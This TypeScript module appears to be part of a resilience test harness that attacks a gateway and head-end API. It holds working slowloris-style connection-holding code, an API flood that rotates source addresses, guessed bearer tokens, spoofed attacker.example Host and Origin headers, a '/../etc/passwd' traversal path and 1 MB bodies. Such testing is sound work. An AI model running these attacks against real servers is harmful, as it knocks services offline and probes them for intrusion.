import { request as httpRequest } from 'node:http';
import { connect } from 'node:net';
import { type Attack, acted, int, repeatedly, sourceOf, type Target } from './attacker.ts';

interface Slowness {
  readonly port: number;
  readonly host: string;
  readonly connections: number;
  /** The attacker's addresses that take turns. */
  readonly addresses: number;
  /** The beginning of each request, which goes on with an octet a second. */
  readonly head: string;
}

/** Holds connections that send an octet a second, and opens each again when it is closed. */
async function dripping(target: Target, slowness: Slowness): Promise<never> {
  const { port, host, connections, addresses, head } = slowness;
  const open = (at: number): void => {
    const socket = connect({ port, host, localAddress: sourceOf(target, at % addresses) });
    socket.on('error', () => {});
    socket.write(head);
    socket.once('connect', acted);
    const drip = setInterval(() => socket.writable && socket.write('x'), 1000);
    socket.on('close', () => {
      clearInterval(drip);
      setTimeout(open, 200, at);
    });
  };
  for (let at = 0; at < connections; at++) open(at);
  return await new Promise<never>(() => {});
}

/** Sends a request from an address of the attacker, and reads its answer to the end. */
function ask(
  target: Target,
  from: number,
  method: string,
  path: string,
  headers: Readonly<Record<string, string>>,
  body: Buffer,
): void {
  const { hostname: host, port } = new URL(target.api);
  const options = { host, port, method, path, headers, localAddress: sourceOf(target, from), agent: false };
  const outgoing = httpRequest(options, (answer) => answer.resume());
  outgoing.on('error', () => {});
  outgoing.end(body);
}

/** Attacks on HTTP: the binding of the gateway, and the API of the head-end. */
export const httpAttacks: Readonly<Record<string, Attack>> = {
  'slow-http': {
    what: '300 connections to the HTTP binding from one address that send an octet a second',
    run: (target) =>
      dripping(target, {
        port: target.http,
        host: target.host,
        connections: 300,
        addresses: 1,
        head: 'POST /dm HTTP/1.1\r\nHost: gw\r\nContent-Length: 1000\r\nX: ',
      }),
  },
  'slow-api': {
    what: '300 connections to the API of the head-end from one address that send an octet a second',
    from: 'inside',
    run: (target) =>
      dripping(target, {
        port: Number(new URL(target.api).port),
        host: new URL(target.api).hostname,
        connections: 300,
        addresses: 1,
        head: 'POST /fanouts HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\nX: ',
      }),
  },
  'api-requests': {
    what: 'Guessed tokens, foreign hosts and origins, unknown paths and bodies of 1 MB at the API, 200 a second from 20 addresses',
    from: 'inside',
    run: async (target, chance) => {
      const paths = ['/devices', '/gateways', '/alerts', '/fanouts', '/images', '/../etc/passwd', '/x%00'];
      await repeatedly(200, (round) => {
        const headers = [
          { authorization: `Bearer ${Buffer.from(chance.bytes(32)).toString('base64url')}` },
          { host: 'attacker.example' },
          { origin: 'https://attacker.example', 'content-type': 'text/plain' },
          { 'content-type': 'application/json' },
        ][round % 4]!;
        const isBig = round % 40 === 3;
        const body = isBig ? Buffer.alloc(1_000_000, 0x5b) : chance.bytes(1 + int(chance, 500));
        const path = paths[int(chance, paths.length)]!;
        ask(target, int(chance, 20), round % 3 === 0 ? 'GET' : 'POST', path, headers, Buffer.from(body));
      });
    },
  },
};
